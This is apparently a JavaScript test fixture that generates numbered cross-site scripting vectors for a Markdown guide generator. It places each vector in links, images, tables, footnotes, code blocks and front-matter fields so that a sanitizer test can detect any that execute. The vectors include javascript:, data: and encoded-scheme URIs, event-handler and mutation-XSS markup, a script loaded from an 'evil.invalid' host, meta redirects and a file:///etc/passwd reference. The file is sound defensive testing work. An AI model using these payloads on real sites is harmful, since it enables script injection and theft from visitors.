// What somebody might write into a guide so that a reader's browser runs it: every way to write it, in every part of a
// page. All of it calls ran(), which a page does not have, with the number of the vector, or fetches something from a
// host with that number: the test looks whether anybody does.
const run = 'ran(1)';

// Addresses that run or lead something. The ways to write "javascript:" are those that browsers read as that.
const coded = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, `\tjavascript:${run}`, `java\tscript:${run}`, `javascript\t:${run}`,
  `&#106;avascript:${run}`, `&#x6A;avascript:${run}`, `&#0000106avascript:${run}`, `javascript&colon;${run}`,
  `java&Tab;script:${run}`, `java&NewLine;script:${run}`, `&#1;javascript:${run}`, `javascript&#58;${run}`,
  `%6Aavascript:${run}`, `javascript%3A${run}`, `\\javascript:${run}`, `javascript://%0a${run}`, `vbscript:${run}`,
  `livescript:${run}`, `data:text/html,<script>${run}</script>`, `data:text/html;base64,{<script>${run}</script>}`,
  `data:image/svg+xml;base64,{<svg onload="${run}"/>}`, `data:,${run}`, 'blob:http://evil.invalid/1',
  `view-source:javascript:${run}`, `feed:javascript:${run}`, `jar:javascript:${run}`, `about:blank#${run}`,
  'file:///etc/passwd', '//evil.invalid/a', '/\\evil.invalid/a', 'http:evil.invalid', `https://evil.invalid/"onclick=${run}`,
  `https://evil.invalid/'onmouseover='${run}`, `#"><img src=x onerror=${run}>`, `"onfocus="${run}" autofocus="`,
];

const places = {
  link: (a) => `[a](${a})`, angled: (a) => `[a](<${a}>)`, auto: (a) => `<${a}>`, bare: (a) => `See ${a} there.`,
  picture: (a) => `![A row](${a})`, reference: (a, i) => `[a][r${i}]\n\n[r${i}]: ${a}`, titled: (a) => `[a](${a} "t")`,
  cell: (a) => `| a | b |\n| --- | --- |\n| [a](${a}) | b |`, note: (a, i) => `A note[^${i}].\n\n[^${i}]: [a](${a})`,
  heading: (a, i) => `## [a${i}](${a})`, inside: (a) => `[![A row](${a})](${a})`,
};

// Markup that runs something in a browser that takes it for markup.
const markup = [
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, '<script src=//evil.invalid/a.js></script>',
  `<img src=x onerror=${run}>`, `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">a</math>`, `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`, `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`, `<details open ontoggle=${run}>a</details>`, `<video><source onerror=${run}></video>`,
  `<input autofocus onfocus=${run}>`, `<form action="javascript:${run}"><button>a</button></form>`,
  '<base href="//evil.invalid/">', '<meta http-equiv="refresh" content="0;url=//evil.invalid/">',
  '<link rel="stylesheet" href="//evil.invalid/a.css">', '<style>@import "//evil.invalid/a.css";</style>',
  `<a href="javascript:${run}">a</a>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`, `<!--><img src=x onerror=${run}>-->`, `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<textarea></textarea><img src=x onerror=${run}>`, `</title><script>${run}</script>`, `</p></main><script>${run}</script>`,
  `<<script>${run}//<</script>`, `<scr<script>ipt>${run}</script>`, `<img src="x\`onerror=${run}">`,
  `<p style="background:url(//evil.invalid/a)">`, `&lt;script&gt;${run}&lt;/script&gt;`, `&amp;lt;script>${run}</script>`,
  `{{"<script>${run}</script>"}}`, `\${${run}}`, `<?php ${run} ?>`, `"><script>${run}</script>`, `' onmouseover='${run}`,
  `\`\`<script>${run}</script>`,
];

const parts = {
  text: (m) => m, item: (m) => `- ${m}`, quote: (m) => `> ${m}`, heading: (m) => `## ${m}`, code: (m) => `\`\` ${m} \`\``,
  listing: (m) => `\`\`\`html\n${m}\n\`\`\``, indented: (m) => `    ${m}`,
  cell: (m) => `| a | b |\n| --- | --- |\n| ${m.replaceAll('|', '')} | b |`, label: (m) => `[${m}](../home.md)`,
  words: (m) => `![${m}](../row.png)`, note: (m, i) => `A note[^${i}].\n\n[^${i}]: ${m}`, tip: (m) => `[a](../home.md '${m}')`,
  language: (m) => `\`\`\`${m.replaceAll('`', '')}\na\n\`\`\``, strong: (m) => `**${m}**`,
};

// What an author fills in above the text.
const fields = ['title', 'summary', 'language', 'season'];

// own gives a vector its number.
function own(text, i) {
  return text.replaceAll(run, `ran(${i})`).replaceAll('evil.invalid', `v${i}.evil.invalid`)
    .replace(/base64,\{(.*?)\}/g, (_, inner) => `base64,${Buffer.from(inner).toString('base64')}`);
}

// inText are the vectors in the text of a page, inHead those above it, each with its number: many texts go into one
// page, and one of each field.
export const inText = [
  ...coded.flatMap((address) => Object.values(places).map((place) => (i) => place(own(address, i), i))),
  ...markup.flatMap((text) => Object.values(parts).map((part) => (i) => part(own(text, i), i))),
].map((make, i) => ({ number: i, text: make(i) }));
export const inHead = [...markup, ...coded].flatMap((text, head) => fields.map((field, at) => {
  const number = inText.length + head * fields.length + at;
  return { number, head, field, text: own(text, number) };
}));

// page writes a page with some of the vectors, and lists which of them each of its lines has.
export function page(heads, texts) {
  const lines = ['---'];
  const of = [undefined];
  const add = (text, vector) => text.split('\n').forEach((line) => { lines.push(line); of.push(vector); });
  const plain = { title: 'A guide', summary: 'About trees.' };
  for (const vector of heads) {
    delete plain[vector.field];
    add(`${vector.field}: '${vector.text.replaceAll("'", "''")}'`, vector);
  }
  Object.entries(plain).forEach(([key, value]) => add(`${key}: ${value}`));
  add('reviewed: 2026-09-14\n---\n\nTrees.\n');
  for (const vector of texts) {
    add(`${mark(vector)}\n\n${vector.text}\n`, vector);
  }
  return { text: lines.join('\n'), of };
}

// mark is the paragraph before a vector: a page has it for as long as no vector before it takes the text for its own.
export const mark = ({ number }) => `Here begins V${number}.`;

// site and sources have it in all that an office says of itself; what stands on every page.
const evil = `'"><img src=x onerror=${run}><script>${run}</script>`;
const said = `'${evil.replaceAll("'", "''")}'`;
export const site = `office: ${said}\ncrop: ${said}\ntagline: ${said}\nlicence: ${said}\nlocal-rule: ${said}\n`
  + `contact:\n  name: ${said}\n`;
export const sources = `evil:\n  title: ${said}\n  authors: ${said}\n  address: https://www.example.org/a\n  kind: handbook\n`;
